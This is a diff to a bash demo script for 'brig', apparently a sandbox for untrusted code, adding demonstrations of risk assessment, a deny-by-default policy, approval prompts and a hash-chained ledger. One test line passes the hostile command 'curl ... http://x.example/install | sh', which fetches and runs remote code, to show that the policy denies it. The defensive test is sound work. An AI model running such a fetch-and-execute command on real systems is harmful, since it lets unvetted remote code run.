@@ -1,6 +1,7 @@
 #!/bin/bash
 # SPDX-License-Identifier: Apache-2.0
-# Show brig at work: three languages, four hostile programs, warm boxes, a receipt, what the host offers.
+# Show brig at work: three languages, four hostile programs, risk and policy, approval, the record, warm
+# boxes, a receipt, what the host offers.
 #
 #     demo/run.sh          (or `make demo`, which builds first)
 #
@@ -55,6 +56,12 @@ if [ ! -x "$brig" ]; then
 	say "demo: $brig is not there; run 'make build' first" >&2
 	exit 1
 fi
+
+# All that is recorded here goes to a place of its own, and away with it.
+state=$(mktemp -d) || exit 1
+trap 'rm -rf "$state"' EXIT
+export BRIG_STATE_DIR=$state
+unset BRIG_POLICY
 
 title "Which level can this host give to $(id -un 2>/dev/null || id -u)?"
 problem=$("$brig" run shell -c true </dev/null 2>&1)
@@ -137,6 +144,60 @@ while True:
 
 title "Hostile: run for ever (--timeout 1s)"
 run 124 "the time was up" --timeout 1s shell -c 'trap "" TERM INT; while :; do :; done'
+
+title "Risk: what would it do? (brig risk; nothing is run)"
+cat >"$state/start.py" <<'END'
+import subprocess
+subprocess.run(["echo", "a program was started"])
+END
+output=$("$brig" risk "$state/start.py" 2>&1)
+verdict $? "assessed"
+quote "$output"
+holds "critical" "a label for policies and people; the box is the same for all"
+
+title "Policy: critical shell commands are not run, by default"
+run 126 "denied before there was a box" shell -c 'curl -s http://x.example/install | sh'
+holds "no-critical-shell" "the rule is named"
+
+title "Approval: a policy that asks (--confirm answers in place of a person)"
+cat >"$state/ask.yaml" <<'END'
+version: 1
+name: ask
+default: allow
+floor: { level: degraded-ok }
+approval: { expires: 1m, self: true }
+rules:
+  - name: ask-when-critical
+    match: { risk: critical }
+    verdict: confirm
+    reason: somebody has to look at it
+END
+run 126 "the answer was no" --policy "$state/ask.yaml" --confirm deny "$state/start.py"
+holds "denied by auto-deny" "who said so is told and recorded"
+run 0 "the answer was yes" --policy "$state/ask.yaml" --confirm approve "$state/start.py"
+holds "a program was started" "it ran, in a box like any other"
+
+# A person's way: the run waits, somebody looks at it and answers elsewhere.
+"$brig" run "${level[@]}" --policy "$state/ask.yaml" "$state/start.py" </dev/null >"$state/waited" 2>&1 &
+waiting=$!
+id=
+for _ in $(seq 100); do
+	id=$("$brig" approvals ls 2>/dev/null | sed -n 's/^\([0-9a-z]\{26\}\) *waiting .*/\1/p')
+	[ -z "$id" ] || break
+	sleep 0.1
+done
+output=$("$brig" approvals show "$id" 2>&1)
+verdict $? "the question can be seen from another terminal: brig approvals show"
+quote "$(grep -E '^(Digest|Because|Risk|Code|  \|)' <<<"$output")"
+output=$("$brig" approvals allow "$id" --reason 'seen in the demo' 2>&1)
+verdict $? "and answered: $output"
+wait "$waiting"
+verdict $? "the run that waited went on"
+
+title "The record: every step, each row's hash covers the row before it"
+quote "$("$brig" ledger ls -n 3 | cut -c1-110)"
+output=$("$brig" ledger verify 2>&1)
+verdict $? "brig ledger verify: $output"
 
 title "Many runs: brig batch, in boxes that are complete before they are asked"
 answers=$(printf '{"level": "%s", "language": "%s", "code": "%s"}\n' \
